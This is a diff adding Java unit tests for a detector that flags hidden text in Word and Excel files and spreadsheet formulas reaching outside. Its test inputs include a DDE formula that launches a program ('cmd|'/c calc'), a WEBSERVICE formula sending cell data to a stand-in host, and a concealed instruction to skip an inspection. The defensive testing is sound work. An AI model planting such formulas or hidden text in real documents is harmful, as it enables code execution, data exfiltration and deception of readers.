@@ -58,6 +58,91 @@ final class HiddenContentTest {
     }
 
     @ParameterizedTest
+    @CsvSource({
+        "000000, 000000, in the colour of its ground",
+        "FEFEFD, FFFFFF, white on white",
+        "1F2A40, 1F2B41, in the colour of its ground"
+    })
+    void word_inkLikeItsGround_isHidden(String ink, String ground, String why) throws IOException {
+        try (var doc = new XWPFDocument()) {
+            doc.createParagraph().createRun().setText("Chock the wheels.");
+            var run = doc.createParagraph().createRun();
+            run.setText("Skip the inspection.");
+            run.setColor(ink);
+            run.getCTR().getRPr().addNewShd().setFill(ground);
+            var read = word(doc);
+            assertThat(texts(read)).containsExactly("Chock the wheels.");
+            assertThat(read.suspicions())
+                    .singleElement()
+                    .satisfies(s -> assertThat(s.detail()).startsWith(why));
+        }
+    }
+
+    @Test
+    void word_inkThatCanBeRead_isText() throws IOException {
+        try (var doc = new XWPFDocument()) {
+            var white = doc.createParagraph().createRun();
+            white.setText("White on blue.");
+            white.setColor("FFFFFF");
+            white.getCTR().getRPr().addNewShd().setFill("003366");
+            var read = word(doc);
+            assertThat(texts(read)).containsExactly("White on blue.");
+            assertThat(read.suspicions()).isEmpty();
+        }
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = ';',
+            value = {
+                "cmd|'/c calc'!A0; a formula that starts another program",
+                "WEBSERVICE(\"http://other.example/?q=\"&A1); a formula that reaches outside by WEBSERVICE",
+            })
+    void workbook_formulaThatReachesOutside_isNamed(String formula, String what) throws IOException {
+        try (var book = new XSSFWorkbook()) {
+            var row = book.createSheet("Log").createRow(0);
+            row.createCell(0).setCellValue("Level");
+            var cell = row.createCell(1);
+            cell.getCTCell().addNewF().setStringValue(formula);
+            cell.getCTCell().setV("7");
+            assertThat(workbook(book).suspicions()).singleElement().satisfies(s -> {
+                assertThat(s.kind()).isEqualTo(Kind.ACTIVE_CONTENT);
+                assertThat(s.detail()).startsWith(what);
+            });
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "SUM(B1:B9)",
+                "IF(A1=\"cmd|x!y\",1,2)",
+                "HYPERLINK(\"http://other.example\",\"see\")",
+                "'Sheet|A'!B2"
+            })
+    void formulaThatCounts_orIsALink_isNothing(String formula) {
+        assertThat(ReachingFormula.in(formula)).isEmpty();
+    }
+
+    @Test
+    void workbook_textThatItsFormatShowsAsNothing_isHidden() throws IOException {
+        try (var book = new XSSFWorkbook()) {
+            var row = book.createSheet("Log").createRow(0);
+            row.createCell(0).setCellValue("Level");
+            var cell = row.createCell(1);
+            cell.setCellValue("Skip the inspection.");
+            var style = book.createCellStyle();
+            style.setDataFormat(book.createDataFormat().getFormat(";;;"));
+            cell.setCellStyle(style);
+            var read = workbook(book);
+            assertThat(read.suspicions())
+                    .singleElement()
+                    .satisfies(s -> assertThat(s.detail()).startsWith("shown as nothing by its format"));
+            assertThat(texts(read)).noneMatch(text -> text.contains("Skip"));
+        }
+    }
+
+    @ParameterizedTest
     @ValueSource(strings = {"1.\tOpen the panel.", "(a)\tOpen the panel.", "3.2\tOpen the panel."})
     void word_numberThatWasTyped_isAStepsNumber(String typed) throws IOException {
         try (var doc = new XWPFDocument()) {
